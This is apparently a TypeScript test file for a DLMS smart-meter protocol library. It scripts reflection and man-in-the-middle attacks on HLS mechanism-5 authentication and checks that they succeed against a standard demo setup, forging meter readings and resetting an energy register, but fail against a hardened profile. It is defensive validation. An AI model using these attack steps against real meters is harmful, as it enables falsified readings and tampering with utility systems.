import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { decodeAarq, encodeAare, encodeAarq, decodeAare } from '../../host/dlms/acse.ts';
import { concat } from '../../host/dlms/bytes.ts';
import { DlmsClient, type ClientOptions } from '../../host/dlms/client.ts';
import { MemoryCounterStore } from '../../host/dlms/counter-store.ts';
import { DlmsSecurityError } from '../../host/dlms/errors.ts';
import type { Profile } from '../../host/dlms/security/hls.ts';
import { defaultAssociations } from '../../host/dlms/server/config.ts';
import type { ApduChannel } from '../../host/dlms/transport.ts';
import { decodeRequest, decodeResponse, encodeInitiateResponse, encodeRequest, encodeResponse } from '../../host/dlms/xdlms.ts';
import { demoKeys, makeServer } from './helpers.ts';

// The seed's attacks on HLS (chapter 3, Figs 3.6–3.8): each succeeds against the standard mechanism-5 flow as
// configured for the demonstration (no ciphering of the application, server title taken from the AARE, the
// Green Book's CtoS ≠ StoC check switched off where the figure needs it) and fails against the hardened profile.

/** A transport whose far end is the attacker: every request waits until the test script answers it. */
class Hub {
  private pending: { apdu: Uint8Array; reply: (b: Uint8Array) => void }[] = [];
  private waiter?: (r: { apdu: Uint8Array; reply: (b: Uint8Array) => void }) => void;
  channel(): ApduChannel {
    return {
      address: { clientSap: 1, serverSap: 1 },
      request: (apdu) =>
        new Promise<Uint8Array>((resolve) => {
          const r = { apdu, reply: resolve };
          if (this.waiter) {
            const w = this.waiter;
            this.waiter = undefined;
            w(r);
          } else this.pending.push(r);
        }),
      close: async () => undefined,
    };
  }
  /** Forget a waiting next(): its caller moved on, so a later request must not be swallowed by it. */
  cancel(): void {
    this.waiter = undefined;
  }
  next(): Promise<{ apdu: Uint8Array; reply: (b: Uint8Array) => void }> {
    const r = this.pending.shift();
    if (r) return Promise.resolve(r);
    return new Promise((resolve) => (this.waiter = resolve));
  }
}

/** The next thing that happens: the attacker receives a request, or the client's association settles. */
async function race<T>(hub: Hub, p: Promise<T>) {
  const settled = p.then(
    (v) => ({ settled: 'resolved' as const, v }),
    (e: Error) => ({ settled: 'rejected' as const, e }),
  );
  const out = await Promise.race([hub.next().then((r) => ({ settled: 'request' as const, r })), settled]);
  if (out.settled !== 'request') hub.cancel();
  return out;
}

const initResp = () => encodeInitiateResponse({ conformance: 0x001e1d, maxPduSize: 1024, dlmsVersion: 6, vaaName: 7 });

/** The demonstration configuration: mechanism 5 authenticating a plain (not ciphered) association. */
function demoClient(profile: Profile, counters = new MemoryCounterStore(), extra: Partial<ClientOptions> = {}): ClientOptions {
  return { mechanism: 'hls-gmac', profile, keys: demoKeys, counters, ciphered: false, pinServerTitle: false, unsafeAcceptEqualChallenges: true, ...extra };
}

function fakeAare(title: Uint8Array, stoc: Uint8Array): Uint8Array {
  return encodeAare({ context: 1, result: 0, diagnostic: 14, diagnosticSource: 1, respondingApTitle: title, mechanism: 5, respondingAuthValue: stoc, userInformation: initResp() });
}

function actionReply(req: Uint8Array, result: number, data?: Uint8Array): Uint8Array {
  const q = decodeRequest(req);
  return encodeResponse({ kind: 'action', invokeId: q.invokeId, result: data ? { result, data: { data: { type: 'octet-string', value: data } } } : { result } });
}

function actionParam(req: Uint8Array): Uint8Array {
  const q = decodeRequest(req);
  if (q.kind !== 'action' || q.params?.type !== 'octet-string') throw new Error('not a reply_to_HLS_authentication');
  return q.params.value;
}

async function naiveReflection(opts: ClientOptions) {
  // Fig 3.6: the attacker, posing as the meter, sends the client's own challenge back and then its own response.
  const hub = new Hub();
  const client = new DlmsClient(hub.channel(), opts);
  const p = client.associate();
  const aarq = await hub.next();
  const a = decodeAarq(aarq.apdu);
  aarq.reply(fakeAare(a.callingApTitle!, a.callingAuthValue!));
  const step = await race(hub, p);
  if (step.settled !== 'request') return { ok: false, error: step.settled === 'rejected' ? step.e : undefined };
  step.r.reply(actionReply(step.r.apdu, 0, actionParam(step.r.apdu))); // reflect f(StoC) as f(CtoS)
  const end = await race(hub, p);
  if (end.settled !== 'resolved') return { ok: false, error: end.settled === 'rejected' ? end.e : undefined };
  // The client now believes it talks to the meter: whatever the attacker answers is "the reading".
  const get = client.get(3, '1.0.1.8.0.255', 2);
  const g = await hub.next();
  g.reply(encodeResponse({ kind: 'get', invokeId: decodeRequest(g.apdu).invokeId, result: { data: { type: 'double-long-unsigned', value: 0 } } }));
  return { ok: true, reading: await get };
}

async function twoRunReflection(opts: ClientOptions) {
  // Fig 3.7: two parallel runs with the same client; run 2's challenge is run 1's, run 2's response completes run 1.
  const hub = new Hub();
  const c1 = new DlmsClient(hub.channel(), opts);
  const c2 = new DlmsClient(hub.channel(), opts);
  const p1 = c1.associate();
  const r1 = await hub.next();
  const p2 = c2.associate();
  const r2 = await hub.next();
  const a1 = decodeAarq(r1.apdu);
  const a2 = decodeAarq(r2.apdu);
  r2.reply(fakeAare(a2.callingApTitle!, a1.callingAuthValue!)); // StoC2 = CtoS1
  const s2 = await race(hub, p2);
  // If run 2 refused CtoS1 as a challenge, the attacker still tries run 1 with StoC1 = CtoS2, then has no response.
  r1.reply(fakeAare(a1.callingApTitle!, a2.callingAuthValue!));
  const s1 = await race(hub, p1);
  if (s2.settled !== 'request' || s1.settled !== 'request') return { ok: false, errors: [s1, s2].map((s) => (s.settled === 'rejected' ? s.e : undefined)) };
  const fCtoS1 = actionParam(s2.r.apdu); // client's f(StoC2) = f(CtoS1)
  s1.r.reply(actionReply(s1.r.apdu, 0, fCtoS1));
  s2.r.reply(actionReply(s2.r.apdu, 3)); // run 2 never completes
  const [e1] = await Promise.allSettled([p1, p2]);
  return { ok: e1.status === 'fulfilled', errors: [e1.status === 'rejected' ? (e1.reason as Error) : undefined] };
}

async function manInTheMiddle(profile: Profile) {
  // Fig 3.8: the attacker poses as the client to the meter with its own CtoS, relays the meter's StoC to the genuine
  // client, and uses the client's f(StoC) to authenticate its own association.
  const assocs = defaultAssociations(profile).map((a) => (a.clientSap === 1 ? { ...a, ciphered: false } : a));
  const { server } = makeServer(profile, { associations: assocs });
  const meter = server.session();
  const addr = { clientSap: 1, serverSap: 1 };
  const hub = new Hub();
  const client = new DlmsClient(hub.channel(), demoClient(profile, new MemoryCounterStore(), { unsafeAcceptEqualChallenges: false, pinServerTitle: true }));
  const p = client.associate();
  const r = await hub.next();
  const aarqC = decodeAarq(r.apdu);
  // Our own challenge; in the hardened profile it must carry a counter the meter accepts: borrow the client's.
  const ctosA = profile === 'hardened' ? concat(new Uint8Array(randomBytes(16)), aarqC.callingAuthValue!.slice(-4)) : new Uint8Array(randomBytes(16));
  const aareS = decodeAare(meter.handle(addr, encodeAarq({ ...aarqC, callingAuthValue: ctosA }))!);
  if (aareS.result !== 0) return { ok: false, why: 'meter refused the AARQ' };
  r.reply(encodeAare(aareS)); // the meter's StoC goes to the genuine client
  const s = await race(hub, p);
  if (s.settled !== 'request') return { ok: false, why: 'client stopped', error: s.settled === 'rejected' ? s.e : undefined };
  const pass3 = decodeResponse(meter.handle(addr, s.r.apdu)!); // the client's f(StoC), presented as the attacker's
  s.r.reply(actionReply(s.r.apdu, 3));
  await p.catch(() => undefined);
  const accepted = pass3.kind === 'action' && pass3.result.result === 0;
  // With the association, the attacker acts as the management client: reset the energy register.
  const reset = meter.handle(addr, encodeRequest({ kind: 'action', invokeId: 0xc5, method: { classId: 3, ln: Uint8Array.of(1, 0, 1, 8, 0, 255), method: 1 }, params: { type: 'integer', value: 0 } }))!;
  const r2 = decodeResponse(reset);
  const energy = server.object(Uint8Array.of(1, 0, 1, 8, 0, 255))!.get(2, { association: { clientSap: 1, name: '' }, now: () => new Date() });
  return { ok: accepted && r2.kind === 'action' && r2.result.result === 0, energy, events: server.state.data.events };
}

describe('seed Fig 3.6 — naive reflection (attacker impersonates the meter)', () => {
  it('succeeds against the standard mechanism-5 demonstration configuration: the client accepts a forged reading', async () => {
    const r = await naiveReflection(demoClient('standard'));
    expect(r.ok).toBe(true);
    expect(r.reading).toEqual({ type: 'double-long-unsigned', value: 0 });
  });
  it('the Green Book CtoS ≠ StoC check alone stops this naive form', async () => {
    const r = await naiveReflection(demoClient('standard', undefined, { unsafeAcceptEqualChallenges: false }));
    expect(r.ok).toBe(false);
    expect((r.error as DlmsSecurityError).reason).toBe('reflection');
  });
  it('fails against hardened even with that check switched off: the reflected challenge carries a used counter', async () => {
    const r = await naiveReflection(demoClient('hardened'));
    expect(r.ok).toBe(false);
    expect((r.error as DlmsSecurityError).reason).toBe('invocation-counter');
  });
});

describe('seed Fig 3.7 — reflection with two runs of the protocol', () => {
  it('succeeds against standard mechanism 5 even with the CtoS ≠ StoC check on', async () => {
    const r = await twoRunReflection(demoClient('standard', new MemoryCounterStore(), { unsafeAcceptEqualChallenges: false }));
    expect(r.ok).toBe(true);
  });
  it('fails against hardened: every challenge must carry a counter above all sent and received before', async () => {
    const r = await twoRunReflection(demoClient('hardened', new MemoryCounterStore(), { unsafeAcceptEqualChallenges: false }));
    expect(r.ok).toBe(false);
    expect(r.errors.some((e) => e instanceof DlmsSecurityError && e.reason === 'invocation-counter')).toBe(true);
  });
  it('fails against hardened with its default title pinning too', async () => {
    const r = await twoRunReflection({ mechanism: 'hls-gmac', profile: 'hardened', keys: demoKeys, counters: new MemoryCounterStore(), ciphered: false });
    expect(r.ok).toBe(false);
  });
});

describe('seed Fig 3.8 — man in the middle (attacker impersonates the client)', () => {
  it('succeeds against standard mechanism 5: the meter accepts the relayed f(StoC) and obeys the attacker', async () => {
    const r = await manInTheMiddle('standard');
    expect(r.ok).toBe(true);
    expect(r.energy).toEqual({ type: 'double-long-unsigned', value: 0 }); // the register was reset by the attacker
  });
  it('fails against hardened: f(StoC ‖ CtoS) binds the client’s own challenge, the meter logs the failure', async () => {
    const r = await manInTheMiddle('hardened');
    expect(r.ok).toBe(false);
    expect(r.energy).toEqual({ type: 'double-long-unsigned', value: 123456 });
    expect(r.events!.some((e) => e.kind === 'auth-failure')).toBe(true);
  });
});
